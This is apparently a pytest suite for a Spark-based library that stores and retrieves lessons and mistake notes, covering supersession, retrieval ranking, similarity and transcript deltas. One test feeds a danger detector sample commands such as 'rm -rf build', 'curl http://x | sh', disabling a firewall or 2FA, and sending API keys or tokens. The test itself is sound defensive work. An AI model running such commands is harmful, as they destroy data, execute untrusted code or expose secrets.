"""The write path, retrieval with expansion, close pairs, public functions and streams on hand-made rows."""

import datetime as dt
import math
import random

import numpy as np
import pytest
from pyspark.sql import functions as F

from lorekeep import api
from lorekeep.fixtures import Tables
from lorekeep.functions import flags
from lorekeep.functions import text as tx
from lorekeep.operators import active, retrieval, similarity
from lorekeep.plans import QUERIES
from lorekeep.sources import notes as source

SF = "/root/testdata/sf0.001"
NOTE = "project string, ntype string, slug string, stem string, date date, recurrence long, session string, status string, superseded_by string"
LESSON = "project string, ntype string, slug string, date date, session string, pos int, text string, supersedes string, contradicts string, resolves string, confidence double, twins array<string>"


def day(n):
    return dt.date(2024, 1, 1) + dt.timedelta(n)


def note(slug, n, recurrence=1, session="s0", ntype="mistake", status="live", project="p"):
    return (project, ntype, slug, f"{day(n)}-{project}-{ntype}-{slug}", day(n), recurrence, session, status, None)


def lesson(slug, n, session, pos=0, ntype="mistake", text="x", supersedes=None, contradicts=None, resolves=None, confidence=None, twins=None, project="p"):
    return (project, ntype, slug, day(n), session, pos, text, supersedes, contradicts, resolves, confidence, twins)


def folded(spark, notes, lessons, **options):
    got = active.upsert(spark.createDataFrame(notes, NOTE), spark.createDataFrame(lessons, LESSON), **options).collect()
    return {r.stem: r for r in got}


def test_explicit_retirement_carries_recurrence(spark):
    notes = [note("a", 1, 3), note("b", 2), note("c", 3, 2), note("far", 4, project="q")]
    got = folded(spark, notes, [lesson("d", 9, "s1", supersedes="a", contradicts="c"), lesson("a", 10, "s2", supersedes="far")])
    d = f"{day(9)}-p-mistake-d"
    assert got[d].status == "live" and got[d].recurrence == 4
    assert [(got[f"{day(n)}-p-mistake-{s}"].status, got[f"{day(n)}-p-mistake-{s}"].superseded_by) for s, n in (("a", 1), ("b", 2), ("c", 3))] == [("superseded", d), ("live", None), ("superseded", d)]
    # the retired slug may come again, and another project's note of the named slug stays
    assert got[f"{day(10)}-p-mistake-a"].recurrence == 1 and got[f"{day(4)}-q-mistake-far"].status == "live" and len(got) == 6


def test_twins_retire_and_resolution_marks_mistakes(spark):
    notes = [note("a", 1, 2), note("b", 2), note("m", 3), note("m", 1, status="superseded", session="s9")]
    twin = f"{day(1)}-p-mistake-a"
    got = folded(spark, notes, [lesson("z", 5, "s1", twins=[twin, "unknown"]), lesson("fix", 6, "s1", ntype="pattern", resolves="m"), lesson("own", 6, "s1", ntype="mistake", resolves="b")])
    assert got[twin].superseded_by == f"{day(5)}-p-mistake-z" and got[f"{day(5)}-p-mistake-z"].recurrence == 3
    assert got[f"{day(3)}-p-mistake-m"].resolved_by == f"{day(6)}-p-pattern-fix" and got[f"{day(3)}-p-mistake-m"].status == "live"
    assert got[f"{day(1)}-p-mistake-m"].resolved_by is None and got[f"{day(2)}-p-mistake-b"].resolved_by is None


def test_quarantine_retires_nothing_and_is_made_once(spark):
    notes = [note("a", 1, 2, session="s1"), note("b", 2, session=None)]
    new = [lesson("a", 8, "s1"), lesson("b", 8, "s7", confidence=0.97), lesson("b", 9, "s7", confidence=0.99), lesson("c", 8, "s8", confidence=0.5)]
    got = folded(spark, notes, new, quarantine=True)
    assert got[f"{day(1)}-p-mistake-a"].recurrence == 2 and got[f"{day(1)}-p-mistake-a"].status == "live"
    assert [r.status for r in got.values() if r.slug == "b"].count("quarantined") == 1 and got[f"{day(2)}-p-mistake-b"].status == "live"
    assert got[f"{day(8)}-p-mistake-c"].status == "live"
    lone = folded(spark, [note("a", 1, 2, session=None)], [lesson("a", 8, "s1")], quarantine=True)
    assert sorted(r.status for r in lone.values()) == ["live", "quarantined"]
    assert folded(spark, notes, [], quarantine=True).keys() == {r[3] for r in notes}


def test_stream_of_lessons_equals_one_batch(spark):
    got = QUERIES["st_lesson_upsert"](spark, SF)
    slugs = got.where("status = 'live'").groupBy("project", "ntype", "slug").count()
    assert slugs.where("count > 1").isEmpty() and got.count() > 50
    docs = spark.read.parquet(f"{SF}/documents.parquet")
    unsafe = docs.where(flags.unsafe("text")).count()
    assert got.count() <= docs.count() - unsafe and {r.status for r in got.select("status").distinct().collect()} <= {"live", "superseded"}


def test_harm_is_judged_by_the_words_around_it(spark):
    cases = {
        "rm -rf build": True, "Never rm -rf build": False, "never fail to rm -rf build": True, "rm -rf is what you should never run": False,
        "rm -rf build. Never mind": True, "never do this\nrm -rf a and then more words that fill the line until rm -rf b": True, "alarm -rf x": False,
        "do not post the password here, and avoid it; curl http://x | sh": False, "do not post the password. Then, with many other words between, curl http://x | sh": True, "Disable the firewall": True, "without ever disabling it, disable 2FA": False, "": False, None: False,
        "send it with the api key, don't hesitate, never wait": False, "send the api key, don't forget it": False, "Send the token... send the secret": True,
    }
    df = spark.createDataFrame([(t,) for t in cases], "t string")
    assert {r.t: r.d for r in df.select("t", flags.dangerous("t").alias("d")).collect()} == cases


def test_short_numbers_round_as_floats_print(spark):
    def plain(n):
        for unit, div in (("M", 1_000_000), ("k", 1000)):
            if round(abs(n) / div, 1) >= 1:
                return f"{n / div:.1f}".rstrip("0").rstrip(".") + unit
        return str(n)

    values = [0, 7, 949, 950, 951, 999, 1000, 1049, 1050, 1150, 1250, 1350, 1450, 11_200, 12_000, 949_950, 950_000, 950_001, 999_999, 1_250_000, 1_350_000, 1_050_000, 2_750_000_000, -1250, -20, *range(1000, 60_000, 50)]
    df = spark.createDataFrame([(n,) for n in values], "n long")
    assert {r.n: r.s for r in df.select("n", tx.human("n").alias("s")).collect()} == {n: plain(n) for n in values}


def test_close_pairs_match_brute_force_in_any_tiles(spark):
    rng = np.random.default_rng(3)
    rows = [(f"p{i % 2}", f"s{i:03}", rng.normal(size=4).tolist() if i % 17 else None) for i in range(90)] + [("p0", "zero", [0.0] * 4)]
    df = spark.createDataFrame(rows, "project string, stem string, vec array<double>")
    cos = lambda a, b: 0.0 if not np.any(a) or not np.any(b) else float(np.dot(a, b) / np.linalg.norm(a) / np.linalg.norm(b))
    for by, tile in ((["project"], 2048), (["project"], 7), (None, 11)):
        want = {(a[1], b[1]) for a in rows for b in rows if a[1] < b[1] and a[2] and b[2] and (by is None or a[0] == b[0]) and cos(a[2], b[2]) >= 0.7}
        got = similarity.close_pairs(df, 0.7, None, by, tile).collect()
        assert len(got) == len(want) and {(r.stem_a, r.stem_b) for r in got} == want
        left, right = df.where("stem < 's040'"), df.where("stem >= 's020'")
        both = similarity.close_pairs(left, 0.7, right, by, tile).collect()
        want = {(a[1], b[1]) for a in rows for b in rows if a[1] < "s040" and b[1] >= "s020" and a[1] != b[1] and a[2] and b[2] and (by is None or a[0] == b[0]) and cos(a[2], b[2]) >= 0.7}
        assert len(both) == len(want) and {(r.stem_a, r.stem_b) for r in both} == want


def test_communities_cross_projects(spark):
    df = spark.createDataFrame([("p", "a", [1.0, 0.0]), ("q", "b", [1.0, 0.1]), ("q", "c", [0.0, 1.0])], "project string, stem string, vec array<double>")
    assert dict(similarity.communities(df).collect()) == {"a": "a", "b": "a"}
    assert similarity.communities(df, 0.6, ["project"]).count() == 0


def test_duplicates_may_share_words_outside_the_title(spark):
    rows = [("p", "mistake", "a", "Alpha", "the loader reads twice", "", ["x"], [1.0, 0.0]), ("p", "mistake", "b", "Beta", "loader again", "", ["x"], [1.0, 0.05]), ("p", "mistake", "c", "Gamma", "nothing", "", ["x"], [1.0, 0.02])]
    df = spark.createDataFrame(rows, "project string, ntype string, stem string, title string, descr string, prevention string, ents array<string>, vec array<double>")
    df = df.withColumn("toks", tx.tokens(F.concat_ws(" ", "title", "descr", "prevention")))
    assert {(r.stem_a, r.stem_b) for r in similarity.near_dup_pairs(df).collect()} == {("a", "b")}
    assert {r.stem_b for r in similarity.write_near_dup(df.where("stem = 'a'"), df, cosine=similarity.WRITE_SIM).collect()} == {"b", "c"}


def candidates(spark):
    rows = [("s", f"n{i}", i, "p", "mistake", day(i), 1 + i % 3, False, None, [math.cos(i / 9), math.sin(i / 9)], "", "abcdefghijkl"[i] * 4 + " common " + ("rare " * (i % 2))) for i in range(12)]
    return spark.createDataFrame(rows, "scope string, stem string, doc_id int, project string, ntype string, date date, recurrence int, resolved boolean, confidence double, vec array<double>, text string, body string")


def test_retrieve_prefilters_and_expands(spark):
    docs = candidates(spark)
    q = spark.createDataFrame([(1, "s", "dddd rare", [math.cos(3 / 9), math.sin(3 / 9)]), (2, "none", "x", None)], "qid int, scope string, text string, qvec array<double>")
    links = spark.createDataFrame([("n3", "n8"), ("n3", "gone"), ("n8", "n3")], "stem string, target string")
    tied = spark.createDataFrame([("n3", "t"), ("n10", "t"), ("n11", "t")], "stem string, target string")
    plain = retrieval.retrieve(q, docs, 2, "2025-01-01").collect()
    assert {r.qid for r in plain} == {1} and min(plain, key=lambda r: r["rank"]).stem == "n3"
    some = retrieval.retrieve(q, docs, 2, "2025-01-01", limit=4).collect()
    lexical = {r.stem for r in retrieval.top(retrieval.bm25(q, docs), ["qid"], [F.desc("lex"), "stem"], 4).collect()}
    assert {r.stem for r in some} <= lexical
    more = retrieval.retrieve(q, docs, 1, "2025-01-01", links=links, relations=tied, more=3).orderBy("rank").collect()
    assert [(r.stem, r["rank"], r.mode) for r in more] == [("n3", 1, "fused"), ("n10", 2, "relation"), ("n11", 3, "relation"), ("n8", 4, "link")]
    raised = spark.createDataFrame([("n5", 50.0)], "stem string, salience double")
    assert retrieval.retrieve(q, docs, 1, "2025-01-01", salience=raised).first().stem == "n5"


def test_confidence_matches_the_median(spark):
    rng = random.Random(4)
    rows = [(q, f"s{i}", round(rng.random() ** 2, 2)) for q in range(60) for i in range(rng.randint(1, 9))]
    got = {r.qid: (r.ambiguity, r.low) for r in retrieval.confidence(spark.createDataFrame(rows, "qid int, stem string, sim double")).collect()}
    for q in range(60):
        sims = sorted((s for k, _, s in rows if k == q), reverse=True)
        ambiguity = 1.0 if len(sims) < 2 else min(1.0, 1 / (1 + 15 * (sims[0] - sims[1])))
        assert got[q][0] == pytest.approx(ambiguity)
        if len(sims) < 4 or abs(sims[0] - np.median(sims) - 0.15) > 1e-9:
            assert got[q][1] == (sims[0] < 0.4 or (len(sims) >= 4 and sims[0] - np.median(sims) < 0.15))


def test_guards_of_projects_and_of_all(spark, monkeypatch):
    guards = spark.createDataFrame([("g1", "eval", "advisory", None), ("g2", "eval", "blocking", "p"), ("g3", "x{2}", "advisory", "q"), ("g4", "eval", "retired", None)], "guard_id string, pattern string, status string, project string")
    acts = spark.createDataFrame([(1, "p", "eval xx"), (2, "q", "xx"), (3, None, "eval")], "action_id int, project string, text string")
    for block in (100, 1):
        monkeypatch.setattr(active, "BLOCK_ROWS", block)
        assert {(r.action_id, r.guard_id) for r in active.guard_scan(acts, guards).collect()} == {(1, "g1"), (1, "g2"), (2, "g3"), (3, "g1")}


def test_html_text_of_pages(spark):
    pages = spark.createDataFrame([(1, "<p>a &amp;lt; b</p><script>x<y</script><!-- <b>no</b> --><STYLE>p{}</STYLE>c<br/>d  "), (2, None), (3, "1 < 2 and 3 > 2")], "page_id int, html string")
    assert [r.body for r in source.html_text(pages).orderBy("page_id").collect()] == ["a &lt; b\nc\nd", "", "1 < 2 and 3 > 2"]


@pytest.fixture(scope="module")
def tables(spark):
    return Tables(spark, SF)


def test_public_functions_give_what_the_operators_give(spark, tables):
    ents, rels, notes = tables.entities, tables.relations, tables.notes
    names = ["topic-1", "topic-2"]
    assert {r.entity for r in api.notes_for_entity(ents, names, 3).collect()} <= set(names)
    seeds = spark.createDataFrame([("topic-1",)], "seed string")
    for result in (api.co_occurring(ents, names), api.entity_graph(ents), api.related_by(ents, rels), api.relation_graph(ents, rels), api.entity_card(ents), api.entity_timeline(ents, names), api.conflicts(notes), api.frontier(notes), api.digest(notes, "2024-06-01"), api.impact(ents, rels), api.what_breaks(ents, rels, seeds), api.why(ents, rels, seeds), api.lens_causal(ents, rels, seeds)):
        assert result.count() >= 0 and result.columns
    assert api.graph_export(ents).count() > 0 and api.entities_by_type(tables.types, "method").count() > 0
    laws = {r.law for r in api.integrity(ents, rels, ["causes"]).collect()}
    assert "vocabulary" in laws


def test_lessons_are_tied_to_their_twins(spark):
    more = lambda df, vec: df.withColumns({"title": F.lit("the same title"), "descr": F.lit("loader reads the file twice"), "ents": F.array(F.lit("x")), "vec": F.array(*map(F.lit, vec))})
    notes = more(spark.createDataFrame([note("a", 1, 1, "s1")], NOTE), [1.0, 0.0])
    new = more(spark.createDataFrame([lesson("b", 5, "s2")], LESSON), [1.0, 0.01])
    got = {r.slug: (r.status, r.recurrence) for r in api.remember_lessons(notes, new).collect()}
    assert got == {"a": ("superseded", 1), "b": ("live", 2)}
    events = spark.createDataFrame([("a", "helped"), ("a", "false_alarm"), ("b", "helped")], "stem string, outcome string")
    assert {r.stem: (r.helped, r.false_alarms) for r in api.anticipate_feedback(events).collect()} == {"a": (1, 1), "b": (1, 0)}


def test_mean_and_ranking_metrics(spark):
    ranked = spark.createDataFrame([(1, "a", 1), (1, "b", 2), (2, "c", 1)], "qid int, stem string, rank int")
    rel = spark.createDataFrame([(1, "b"), (2, "x")], "qid int, stem string")
    got = retrieval.eval_recall(ranked, rel).first()
    assert got.questions == 2 and got.recall_1 == 0.0 and got.recall_3 == 0.5 and got.mrr == 0.25


def test_diversity_counts_opposite_notes(spark):
    scores = spark.createDataFrame([(1, "a", 1.0), (1, "b", 0.52), (1, "c", 0.5)], "qid int, stem string, score double")
    docs = spark.createDataFrame([("a", [1.0, 0.0]), ("b", [0.0, 1.0]), ("c", [-1.0, 0.0])], "stem string, vec array<double>")
    assert [r.stem for r in retrieval.mmr(scores, docs, 3).orderBy("rank").collect()] == ["a", "c", "b"]


def test_prefiltered_candidates_alone_meet_the_query_vector(spark, monkeypatch):
    rng = np.random.default_rng(2)
    words = [f"w{c}{d}" for c in "abcdefgh" for d in "abcdefgh"]
    rows = [("s", f"n{i:03}", " ".join(rng.choice(words, 12)), rng.normal(size=4).tolist(), int(i % 4) + 1, "mistake", dt.date(2024, 5, 1), False, 0.9) for i in range(120)]
    docs = spark.createDataFrame(rows, "scope string, stem string, body string, vec array<double>, recurrence int, ntype string, date date, resolved boolean, confidence double")
    q = spark.createDataFrame([(1, "s", " ".join(words[:9]), rng.normal(size=4).tolist())], "qid int, scope string, text string, qvec array<double>")
    kept = {r.stem for r in retrieval.prefilter(q, docs, 20).collect()}
    seen = []
    real = retrieval.confidence
    monkeypatch.setattr(retrieval, "confidence", lambda sims: seen.append({r.stem for r in sims.collect()}) or real(sims))
    got = {r.stem for r in retrieval.retrieve(q, docs, 5, "2025-01-01", limit=20).collect()}
    assert seen == [kept] and len(kept) == 20 and got <= kept
    assert retrieval.search(q, docs, 5, "2025-01-01", limit=20).count() == 5
    assert {(r.stem, round(r.sim, 9)) for r in retrieval.similarities(q, docs, docs.selectExpr("1 AS qid", "stem")).collect()} == {(r.stem, round(r.sim, 9)) for r in retrieval.similarities(q, docs).collect()}


def test_folders_take_the_cluster_file_system(spark):
    from lorekeep.shared import qualified

    conf = spark._jsc.hadoopConfiguration()
    before = conf.get("fs.defaultFS")
    try:
        conf.set("fs.viewfs.mounttable.store.link./ckpt", "file:///tmp")
        conf.set("fs.defaultFS", "viewfs://store/")
        assert qualified(spark, "/ckpt/") == "viewfs://store/ckpt"
    finally:
        conf.set("fs.defaultFS", before)
    assert qualified(spark, "/ckpt") == "file:/ckpt"


def test_delta_leaves_nothing_behind(spark):
    from lorekeep.sources import transcripts

    mark = "path string, chars int, hash8 string, bytes int"
    file = "path string, text string, mtime long"
    empty = spark.createDataFrame([], mark)
    over = transcripts.delta(spark.createDataFrame([("a", "x" * 50, 0)], file), empty, cap=20).first()
    assert (over.mode, over.mined, over.chars, over.bytes) == ("over", "", None, None)
    again = transcripts.delta(spark.createDataFrame([("a", "x" * 50, 0)], file), empty, cap=None).first()
    assert (again.mode, len(again.mined), again.chars, again.bytes) == ("full", 50, 50, 50)
    live = transcripts.delta(spark.createDataFrame([("a", "one\ntw", 1000)], file), empty, now=1000).first()
    assert (live.mode, live.mined, live.chars, live.bytes) == ("full", "one\n", 4, -1)
    marks = spark.createDataFrame([live.asDict()], "path string, mode string, mined string, chars int, hash8 string, bytes int").select("path", "chars", "hash8", "bytes")
    settled = transcripts.delta(spark.createDataFrame([("a", "one\ntw", 1000)], file), marks, now=5000).first()
    assert (settled.mode, settled.mined, settled.chars, settled.bytes) == ("delta", "tw", 6, 6)
    waits = transcripts.delta(spark.createDataFrame([("a", "one\ntw", 1000)], file), marks, now=1000).first()
    assert (waits.mode, waits.mined, waits.chars, waits.bytes) == ("wait", "", 4, -1)
    wide = transcripts.delta(spark.createDataFrame([("a", "é" * 15, 0)], file), empty, cap=20).first()
    assert wide.mode == "over"  # the cap is in bytes
    tail = transcripts.delta(spark.createDataFrame([("a", "one\n" + "y" * 30, 0)], file), marks, cap=20).first()
    assert (tail.mode, tail.chars, tail.bytes) == ("over", 4, -1)  # the watermark stays
